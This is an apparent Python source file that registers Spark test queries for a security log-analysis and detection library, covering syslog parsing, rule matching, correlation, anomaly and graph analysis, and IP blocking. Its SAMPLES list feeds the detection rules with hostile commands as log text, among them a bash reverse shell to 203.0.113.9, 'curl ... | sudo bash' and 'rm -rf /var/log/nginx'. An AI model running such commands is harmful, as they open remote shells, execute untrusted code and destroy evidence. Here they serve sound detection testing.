"""Registered queries over the driver's tables; ``plans.oracle`` has the SQL for each that SQL can express.

``events`` become syslog lines by one CASE expression, so that parsing, rules, graph and
correlation run on real text; ``documents`` and ``embeddings`` serve the text and vector operators.
"""

from __future__ import annotations

from datetime import datetime, timezone

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from logloom.checkpoint import cut
from logloom.functions import ip, lang, text
from logloom.operators import anomaly, buffer, chunk, correlate, fleet, graph, privacy, respond, retrieve, windows
from logloom.operators.canary import Canaries
from logloom.operators.parse import parse
from logloom.operators.sigma import event_field, to_column
from logloom.plans.ingest import Options, run_stats, to_events
from logloom.sources.lines import clip

NOW = datetime(2024, 1, 30, 23, 59, 59, tzinfo=timezone.utc)
#: A window that the sparse test events can fill; the defaults are one minute and five.
CORRELATOR = correlate.Config(threshold=4, window_s=6 * 3600, cooldown_s=12 * 3600)
CANARIES = Canaries.of({"users": ["user7", "user70"], "paths": ["/srv/data/f13"], "hosts": ["host3x"], "processes": ["useradd"]})
SIGMA = {"op": "and", "children": [
    {"op": "or", "children": [{"op": "match", "field": "message", "match": "contains", "values": ["FAILED PASSWORD", "command="]}, {"op": "match", "field": "dest_port", "match": "equals", "values": ["22", "443"]}]},
    {"op": "not", "children": [{"op": "match", "field": "user", "match": "endswith", "values": ["0", "5"]}]},
    {"op": "match", "field": "message", "match": "regex", "values": ["user[0-9]+", r"PROTO=TCP\s+SPT=\d*[02468]\s"], "cased": True},
]}
LINE = """concat(stamp, 'Z host', cast(user_id % 5 as string), CASE event_type
 WHEN 'error' THEN concat(' sshd[', cast(event_id % 30000 + 1 as string), ']: Failed password for user', cast(user_id as string), ' from 203.0.113.', cast(user_id % 12 as string), ' port ', cast(1024 + event_id % 60000 as string), ' ssh2')
 WHEN 'click' THEN concat(' sshd[', cast(event_id % 30000 + 1 as string), ']: Accepted password for user', cast(user_id as string), ' from 203.0.113.', cast(user_id % 12 as string), ' port ', cast(1024 + event_id % 60000 as string), ' ssh2')
 WHEN 'signup' THEN concat(' useradd[9]: new user: name=user', cast(user_id as string), ', UID=', cast(1000 + user_id as string), ', GID=100')
 WHEN 'purchase' THEN concat(' sudo: user', cast(user_id as string), ' : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tool', cast(event_id % 7 as string), ' /srv/data/f', cast(event_id % 50 as string))
 ELSE concat(' kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.', cast(user_id % 12 as string), ' DST=10.0.0.1 LEN=40 PROTO=TCP SPT=', cast(1024 + event_id % 60000 as string), ' DPT=', cast(event_id % 1000 as string)) END)"""


def _read(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    spark.conf.set("spark.sql.session.timeZone", "UTC")
    return spark.read.parquet(f"{sf_dir}/{table}.parquet")


def lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``seq, raw``."""
    d = _read(spark, sf_dir, "events").withColumn("stamp", F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"))
    return d.select(F.col("event_id").alias("seq"), F.expr(LINE).alias("raw"))


_plans: dict[tuple, DataFrame] = {}


def events(spark: SparkSession, sf_dir: str, columns: str = "", canaries: Canaries | None = None) -> DataFrame:
    """The enriched events, with the columns named (default: all); the analysed plan (not its rows) is kept for a session, since queries share it."""
    key = (spark.sparkContext.applicationId, id(spark), sf_dir, columns, canaries is None)
    if key not in _plans:
        _plans[key] = to_events(lines(spark, sf_dir), Options(now=NOW, canaries=canaries, columns=columns.split() or None))
    return _plans[key]


#: What the operators of graphs, anomalies, windows and responses read of an event.
GRAPH = "timestamp score severity rule outcome source_ip host user process fields"
ANOMALY = "timestamp ingested_at score rule category process user source_ip"
WINDOW = "seq timestamp ingested_at raw_sha256 severity score host process message source_ip source_port dest_ip dest_port user outcome rule category mitre tags"
RESPOND = "seq source_ip score rule"
INCIDENT = "seq raw_sha256 ingested_at timestamp host facility source_ip source_port user rule category outcome"


def _list(c: str) -> F.Column:
    return F.array_join(c, ",").alias(c)


def parse_envelope(spark, d):
    e = parse(lines(spark, d), "raw", NOW)
    return e.select("seq", F.col("env_format").alias("format"), F.col("env_host").alias("host"), F.col("env_process").alias("process"), F.col("env_pid").cast("bigint").alias("pid"), F.col("env_message").alias("message"), F.unix_micros("env_time").alias("us"))


def rule_verdict(spark, d):
    e = events(spark, d, "seq rule category score severity outcome source_ip dest_ip source_port dest_port user tags raw_sha256")
    return e.select("seq", "rule", "category", F.col("score").cast("bigint").alias("score"), "severity", "outcome", "source_ip", "dest_ip", F.col("source_port").cast("bigint").alias("source_port"), F.col("dest_port").cast("bigint").alias("dest_port"), "user", F.size("tags").cast("bigint").alias("n_tags"), "raw_sha256")


def severity_histogram(spark, d):
    return events(spark, d, "severity category score").groupBy("severity", "category").agg(F.count("*").alias("n"), F.sum("score").alias("total"))


def ip_scope(spark, d):
    docs = _read(spark, d, "documents").select("doc_id", ip.first_ip(F.coalesce("text", F.lit(""))).alias("ip"))
    return docs.where("ip <> ''").select("doc_id", "ip", ip.scope(F.col("ip")).alias("scope"))


def sanitise_flags(spark, d):
    bad = F.element_at(F.array(*[F.lit(x) for x in ("", "\t", "\x1b[31m", "‮", "\x07", "​\x00")]), F.pmod("doc_id", F.lit(6)).cast("int") + 1)
    docs = _read(spark, d, "documents").select("doc_id", F.concat(bad, F.replace(F.coalesce("text", F.lit("")), F.lit("\n"), F.lit(" "))).alias("raw"))
    s = text.sanitise(docs, most=1 << 30)
    return s.select("doc_id", "clean", "san_modified", "san_truncated", "san_control", "san_escape", "san_bidi", "san_invalid_utf8")


def fingerprint_dedupe(spark, d):
    docs = _read(spark, d, "documents").select(F.col("doc_id").alias("seq"), text.fingerprint(F.coalesce("text", F.lit(""))).alias("raw_sha256"))
    return buffer.dedupe(docs).select("seq", "raw_sha256")


def sigma_filter(spark, d):
    return events(spark, d, "seq rule user message dest_port").where(to_column(SIGMA, event_field)).select("seq", "rule", "user")


def canary_hits(spark, d):
    e = events(spark, d, "seq rule score outcome category fields", CANARIES).where("category = 'deception'")
    return e.select("seq", "rule", F.col("score").cast("bigint").alias("score"), "outcome", F.col("fields")["honeytoken"].alias("tokens"), F.col("fields")["honeytoken_field"].alias("seen_in"), F.col("fields")["trigger_rule"].alias("trigger_rule"))


def failure_sliding_count(spark, d):
    e = _read(spark, d, "events").withColumn("source", F.col("user_id") % 12)
    out = correlate.sliding_failures(e, "source", "ts", 6 * 3600, F.col("event_type") == "error")
    return out.select("event_id", "source", F.col("n_failures"))


def incidents(spark, d):
    # no rule of an event has such a name, so that the events themselves needn't be read again
    e = correlate.incidents(events(spark, d, INCIDENT), CORRELATOR).where("rule LIKE 'correlated%'")
    return e.select("seq", "rule", F.col("score").cast("bigint").alias("score"), "source_ip", "user", F.coalesce(F.col("fields")["failure_count"], F.col("fields")["preceding_failures"]).cast("bigint").alias("failures"), F.col("fields")["total_failures_seen"].cast("bigint").alias("total"), F.col("fields")["targeted_users"].alias("users"))


def event_feed(spark, d):
    e = buffer.with_pos(events(spark, d, "seq process rule score message"))
    return buffer.feed(e, 50, min_score=38, search="USER1").select("seq", "rule", F.col("score").cast("bigint").alias("score"))


def feed_summary(spark, d):
    return buffer.summary(events(spark, d, "severity category process rule sanitized"))


def top_sources(spark, d):
    return buffer.top_sources(buffer.with_pos(events(spark, d, "seq process rule source_ip")))


def triage_top(spark, d):
    return buffer.triage(buffer.with_pos(events(spark, d, "seq process rule timestamp score severity")), 25, 40).select("seq", F.col("score").cast("bigint").alias("score"), "severity")


def log_windows(spark, d):
    return windows.counts(events(spark, d, "source_ip host process rule score timestamp ingested_at")).select("actor", F.unix_micros("bucket").alias("bucket_us"), "events", F.col("peak_score").cast("bigint").alias("peak_score"), "incidents")


def window_documents(spark, d):
    return windows.documents(events(spark, d, WINDOW), 1440).select("doc_id", "title", F.length("text").cast("bigint").alias("n_chars"), F.col("metadata")["rules"].alias("rules"))


def anomaly_scores(spark, d):
    a = anomaly.surprises(anomaly.tally(events(spark, d, ANOMALY), NOW), min_bits=3.0)
    return a.select("dim", "value", F.col("count").alias("n"), "baseline_count", F.round("rarity", 6).alias("rarity"), F.round("spike", 6).alias("spike"), "kind", F.col("peak_score").cast("bigint").alias("peak_score"))


def anomaly_report(spark, d):
    found, _ = anomaly.report(events(spark, d, ANOMALY + " seq severity message raw_sha256"), NOW, min_bits=3.0)
    return found.select("key", "kind", F.round("surprise", 6).alias("surprise"), F.size("event_ids").cast("bigint").alias("n_ids"))


def graph_nodes(spark, d):
    n = graph.nodes(events(spark, d, GRAPH))
    return n.select("id", "kind", "events", F.col("peak_score").cast("bigint").alias("peak_score"), "peak_severity", F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"))


def graph_edges(spark, d):
    e = graph.edges(events(spark, d, GRAPH))
    return e.select("src", "dst", "kind", F.col("count").alias("n"), F.col("peak_score").cast("bigint").alias("peak_score"), "grants_access", F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"))


def graph_shapes(spark, d):
    e = cut(graph.edges(events(spark, d, GRAPH)).select("src", "dst", "kind", "grants_access"))  # of which three shapes are made
    s = graph.stars(e).unionByName(graph.funnels(e, 1)).unionByName(graph.bridges(e.withColumn("dst", F.regexp_replace("dst", r"\d$", ""))))
    return s.select("name", "centre", F.size("members").cast("bigint").alias("n"), "severity", F.col("score").cast("bigint").alias("score"))


def graph_chains(spark, d):
    e = events(spark, d, GRAPH)
    return graph.chains(graph.nodes(e), graph.edges(e)).select("centre", F.size("members").cast("bigint").alias("n"), "severity", F.col("score").cast("bigint").alias("score"))


def blast_radius(spark, d):
    e = events(spark, d, GRAPH)
    return graph.blast_radius(graph.nodes(e), graph.edges(e), "source_ip:203.0.113.3").select("id", F.col("hops").cast("bigint").alias("hops"))


def reachable(spark, d):
    """What access leads to, without regard to time."""
    e = events(spark, d, GRAPH)
    return graph.blast_radius(graph.nodes(e), graph.edges(e), "source_ip:203.0.113.3", respect_time=False).select("id", F.col("hops").cast("bigint").alias("hops"))


def graph_components(spark, d):
    e = events(spark, d, GRAPH).where("outcome = 'failure'")
    return graph.components(graph.nodes(e), graph.edges(e))


def lang_tokens(spark, d):
    t = F.col("text")
    return _read(spark, d, "documents").select("doc_id", lang.detect_language(t).alias("language"), lang.estimate_tokens(t).cast("bigint").alias("tokens"), lang.budget_chars(400, F.coalesce(t, F.lit(""))).cast("bigint").alias("chars"))


def _documents(spark, d) -> DataFrame:
    docs = _read(spark, d, "documents")
    return docs.select(F.col("doc_id").cast("string").alias("doc_id"), F.concat(F.lit("Document "), "doc_id").alias("title"), "text", "source", "lang", F.lit("advisory").alias("doc_type"), F.create_map().cast("map<string,string>").alias("metadata"))


def chunk_documents(spark, d):
    c = chunk.children(chunk.hierarchy(_documents(spark, d)))
    return c.select("chunk_id", "parent_id", "lang", F.col("ordinal").cast("bigint").alias("ordinal"), F.length("text").cast("bigint").alias("n_chars"))


def knn(spark, d):
    v = _read(spark, d, "embeddings").select("vec_id", "label", F.col("embedding").alias("vector"))
    q = v.where("vec_id % 100 = 0").withColumnRenamed("vec_id", "query_id")
    return retrieve.nearest_each(q, v, 5, chunk_id="vec_id").select("query_id", F.col("chunk_id").alias("vec_id"), F.round("score", 6).alias("score"), F.col("rank").cast("bigint").alias("rank"))


def parent_collapse(spark, d):
    """The best vector of each label for each query: a query's hits of a label are children of one parent."""
    v = _read(spark, d, "embeddings").where("label IS NOT NULL").select("vec_id", "label", F.col("embedding").alias("vector"))
    q = v.where("vec_id % 100 = 0").select(F.col("vec_id").alias("query_id"), "vector")
    top = retrieve.nearest_each(q, v, 32, chunk_id="vec_id").join(v.select(F.col("vec_id").alias("chunk_id"), "label"), "chunk_id")
    hits = top.select(F.col("chunk_id").cast("string").alias("chunk_id"), F.concat_ws(":", "query_id", "label").alias("parent_id"), F.lit("").alias("text"), F.lit("en").alias("lang"), F.create_map().cast("map<string,string>").alias("metadata"), "score")
    parents = top.select("query_id", "label").distinct().select(F.concat_ws(":", "query_id", "label").alias("doc_id"), F.lit("").alias("title"), F.lit("").alias("text"), F.lit("").alias("source"), F.lit("en").alias("lang"), F.lit("vector").alias("doc_type"))
    place = F.split("doc_id", ":")
    return retrieve.collapse(hits, parents).select(place[0].cast("bigint").alias("query_id"), place[1].cast("bigint").alias("label"), F.col("chunk_id").cast("bigint").alias("vec_id"), F.round("score", 6).alias("score"))


def where_filter(spark, d):
    docs = _read(spark, d, "documents")
    f = {"$or": [{"lang": {"$in": ["fr", "de"]}}, {"source": {"$ne": "web"}, "lang": "en"}], "$and": [{"lang": {"$nin": ["es"]}}]}
    return docs.where(retrieve.where(f, F.col)).groupBy("lang", "source").agg(F.count("*").alias("n"))


def pii_mask(spark, d):
    docs = _read(spark, d, "documents")
    return docs.select("doc_id", F.sha2(privacy.mask(F.coalesce("text", F.lit(""))), 256).alias("masked"))


def block_decision(spark, d):
    c = respond.decide(events(spark, d, RESPOND), allowlist=["203.0.113.0/30", "bad"], min_score=38)
    return c.select("seq", "source_ip", "allowed", "reason")


def block_plan(spark, d):
    c = respond.decide(events(spark, d, RESPOND), mode="enforce", min_score=38, recent=12)
    done = spark.createDataFrame([("203.0.113.1",)], "source_ip string")
    return respond.plan_run(c, done, min_score=38).select("seq", "source_ip")


def probe_stats(spark, d):
    e = _read(spark, d, "events").select(F.concat(F.lit("probe"), F.col("user_id") % 7).alias("probe"), F.concat(F.lit("probe"), F.col("user_id") % 5).alias("host"), F.unix_micros(F.col("ts").cast("timestamp")).alias("at"), F.length("props").alias("bytes"))
    ok = fleet.authorised(e, spark.createDataFrame([("probe3",)], "value string"))
    p = fleet.pin(ok, F.col("at")).withColumn("accepted", F.col("_claimed_host").isNull())
    return fleet.stats(p)


def byte_lines(spark, d):
    """Lines with invalid UTF-8, carriage returns and a cut within a character, as bytes from the line to its fingerprint."""
    end = F.expr("CASE seq % 5 WHEN 0 THEN X'FFFE' WHEN 1 THEN X'0D' WHEN 2 THEN X'C30D0D' WHEN 3 THEN X'E38182' ELSE X'' END")
    raw = clip(lines(spark, d).select("seq", F.concat(F.col("raw").cast("binary"), end).cast("string").alias("value")), 90)
    s = text.sanitise(raw)
    return s.select("seq", "san_invalid_utf8", text.fingerprint(F.col("raw")).alias("raw_sha256"), F.octet_length("raw").cast("bigint").alias("n_bytes"))


def capped(spark, d):
    docs = _read(spark, d, "documents")
    return docs.select("doc_id", text.cap(F.coalesce("text", F.lit("")), 60).alias("capped"))


ENVELOPE = """CASE event_id % 5 WHEN 0 THEN concat('<34>1 ', iso, 'Z host', cast(user_id % 5 as string), ' app 77 ID7 - value ', cast(event_id as string))
 WHEN 1 THEN concat('<13>', bsd, ' host', cast(user_id % 5 as string), ' cron[', cast(event_id % 900 + 1 as string), ']: value ', cast(event_id as string)) WHEN 2 THEN concat('<999>odd value ', cast(event_id as string))
 WHEN 3 THEN concat('app[', cast(event_id % 900 + 1 as string), ']: value ', cast(event_id as string)) ELSE concat('plain value ', cast(event_id as string)) END"""


def envelopes(spark, d):
    """The other envelopes: RFC 5424, BSD with a year from the clock, bad priority, a tag only, and none."""
    e = _read(spark, d, "events").withColumn("iso", F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"))
    e = e.withColumn("bsd", F.concat(F.date_format("ts", "MMM "), F.lpad(F.date_format("ts", "d"), 2, " "), F.date_format("ts", " HH:mm:ss")))
    p = parse(e.select(F.col("event_id").alias("seq"), F.expr(ENVELOPE).alias("raw")), "raw", NOW)
    return p.select("seq", F.col("env_format").alias("format"), F.col("env_facility").alias("facility"), F.col("env_level").cast("bigint").alias("level"), F.col("env_host").alias("host"), F.col("env_process").alias("process"), F.col("env_pid").cast("bigint").alias("pid"), F.col("env_message").alias("message"), F.unix_micros("env_time").alias("us"))


#: A process and a message for each rule, in the order of the rules, and what looks like one but isn't.
SAMPLES = (
    ("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("bash", "curl http://x/a | sudo bash"), ("top", "started xmrig in the background"), ("bash", "rm -rf /var/log/nginx"),
    ("sshd", "Failed publickey for invalid user bob from 203.0.113.9 port 22"), ("sshd", "Invalid user al from 203.0.113.9"), ("sshd", "error: maximum authentication attempts exceeded for bob"),
    ("sshd", "reverse mapping: POSSIBLE BREAK-IN ATTEMPT!"), ("sshd", "Accepted none for bob from 2001:db8::1 port 9"), ("sshd", "Connection closed by authenticating user bob 203.0.113.9 port 4 [preauth]"),
    ("login", "pam_unix(login:auth): authentication failure; rhost=203.0.113.9 user=bob"), ("sudo", "bob : user NOT in sudoers ; TTY=pts/0"), ("sudo", "bob : 3 incorrect password attempts"), ("sudo", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"),
    ("su", "FAILED SU (to root) bob on pts/0"), ("pkexec", "pkexec: GCONV_PATH is set"), ("useradd", "new user: name=eve, UID=1003, GID=1"), ("usermod", "add 'eve' to group 'docker'"), ("vi", "wrote /root/.ssh/Authorized_Keys"),
    ("systemd", "Created symlink /etc/systemd/system/x.service to y.service"), ("kernel", "[UFW AUDIT] IN=eth0 SRC=203.0.113.9 DST=10.0.0.1 PROTO=UDP SPT=5 DPT=53"), ("kernel", "IN=eth0 OUT= MAC=x SRC=203.0.113.9 DST=10.0.0.1 DPT=23"),
    ("CRON", "(root) CMD (run-parts /etc/cron.hourly)"), ("crontab", "(bob) REPLACE (bob)"), ("kernel", "audit: apparmor=\"DENIED\" operation=open"), ("auditd", "auditd stopped"), ("kernel", "Out of memory: Killed process 77 (java)"),
    ("kernel", "java[77]: segfault at 7f0c ip 0"), ("systemd", "Failed to start nginx"), ("kernel", "Buffer I/O error on sda"), ("cron", "CMD (nothing) by nobody"), ("ssh", "Failed password for bob from 203.0.113.9 port 1"), ("app", "nothing to see"),
    ("kernel", "usb 1-1: new high-speed device"), ("kernel", "link is up"), ("sshd", "Server listening on 0.0.0.0 port 22."),
)


def rule_catalog(spark, d):
    """Every rule on lines of its own: the verdict of a sample in each event's place."""
    e = _read(spark, d, "events").select(F.col("event_id").alias("seq"), F.element_at(F.array(*[F.struct(F.lit(p).alias("p"), F.lit(m).alias("m")) for p, m in SAMPLES]), (F.col("event_id") % len(SAMPLES) + 1).cast("int")).alias("s"))
    raw = e.select("seq", F.concat(F.lit("2024-01-05T06:07:08Z host1 "), F.col("s.p"), F.lit(": "), F.col("s.m")).alias("raw"))
    return to_events(raw, Options(now=NOW, columns=("seq", "rule", "category", "outcome"))).select("seq", "rule", "category", "outcome")


def ip6_scope(spark, d):
    e = _read(spark, d, "events").select("event_id", F.expr("CASE event_id % 6 WHEN 0 THEN '::1' WHEN 1 THEN concat('fe80::', lower(hex(event_id % 65536))) WHEN 2 THEN concat('fd12:3::', lower(hex(event_id % 65536))) WHEN 3 THEN concat('2a00:1450::', lower(hex(event_id % 65536))) WHEN 4 THEN concat('ff0e::', lower(hex(event_id % 65536 + 1))) ELSE '::' END").alias("ip"))
    return e.select("event_id", "ip", ip.scope(F.col("ip")).alias("scope"))


def event_signals(spark, d):
    s = buffer.signals(buffer.with_pos(events(spark, d, "seq process rule score severity source_ip sanitized")))
    return s.select("event_count", "critical", "high", "warning", "notice", "info", F.col("peak.score").cast("bigint").alias("peak_score"), F.col("peak.rule").alias("peak_rule"), "incidents", "sources", "sanitised")


def event_lookup(spark, d):
    e = events(spark, d, "seq rule raw_sha256")
    return buffer.lookup(e, e.where("rule = 'new_user_created'")).select("seq", "rule", "raw_sha256")


def event_news(spark, d):
    """What is new after a first reading that had the failures."""
    e = events(spark, d, "seq rule outcome raw_sha256")
    return buffer.new_events(e, e.where("outcome = 'failure'")).select("seq", "rule")


def anomaly_cooled(spark, d):
    """Findings after a state in which hours were advised an hour ago and all others two days ago."""
    a = anomaly.surprises(anomaly.tally(events(spark, d, ANOMALY), NOW), min_bits=3.0)
    ago = lambda h: F.lit(NOW) - F.make_dt_interval(F.lit(0), F.lit(h))
    state = a.select(F.concat("dim", F.lit("="), "value").alias("key"), F.when(F.col("dim") == "hour", ago(1)).otherwise(ago(48)).alias("advised_at"))
    return anomaly.cooled(a, state, NOW).select("key", "kind")


def language_floor(spark, d):
    """The best by score, two of each of two languages reserved."""
    docs = _documents(spark, d).withColumn("score", (F.col("doc_id").cast("bigint") * 7919 % 10007) / 10007.0)
    return retrieve.with_floor(docs, 10, ("fr", "de"), 2, 10).select("doc_id", "lang", F.round("score", 6).alias("score"))


def language_mix(spark, d):
    return retrieve.mix(_documents(spark, d))


def ingest_stats(spark, d):
    return run_stats(events(spark, d, "process rule category sanitized parse_ok", CANARIES))


QUERIES = (rule_verdict, parse_envelope, severity_histogram, ip_scope, sanitise_flags, fingerprint_dedupe, sigma_filter, canary_hits, failure_sliding_count, incidents, event_feed, feed_summary, top_sources, triage_top, log_windows, window_documents,
           anomaly_scores, anomaly_report, graph_nodes, graph_edges, graph_shapes, graph_chains, blast_radius, reachable, graph_components, lang_tokens, chunk_documents, knn, parent_collapse, where_filter, pii_mask, block_decision, block_plan, probe_stats,
           byte_lines, capped, envelopes, rule_catalog, ip6_scope, event_signals, event_lookup, event_news, anomaly_cooled, language_floor, language_mix, ingest_stats)


def queries() -> dict:
    return {q.__name__: q for q in QUERIES}
